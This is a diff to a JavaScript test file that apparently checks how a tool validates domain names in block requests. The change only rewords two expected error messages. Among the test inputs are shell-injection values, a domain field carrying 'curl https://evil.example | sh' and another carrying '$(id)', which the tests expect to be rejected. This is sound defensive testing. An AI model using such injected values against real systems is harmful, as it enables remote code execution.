@@ -187,10 +187,10 @@ describe('what can not be done is said in the issue, and nothing is proposed', (
       'a page about somebody elsewhere',
       'block',
       { ...BLOCK, domain: 'https://herd.example/@troll@bad.example' },
-      /this is a page of `herd\.example` about somebody of `bad\.example`/,
+      /this is a page of `herd\.example` about an account of `bad\.example`/,
     ],
     ['shell', 'block', { ...BLOCK, domain: 'spam.example; curl https://evil.example | sh #' }, /is not a domain/],
-    ['shell in the name', 'block', { ...BLOCK, domain: '$(id).example' }, /Mastodon takes no domain with/],
+    ['shell in the name', 'block', { ...BLOCK, domain: '$(id).example' }, /Mastodon accepts no domain with/],
     ['YAML', 'block', { ...BLOCK, domain: '{domain: x, severity: none}' }, /is not a domain/],
     [
       'YAML on more lines',
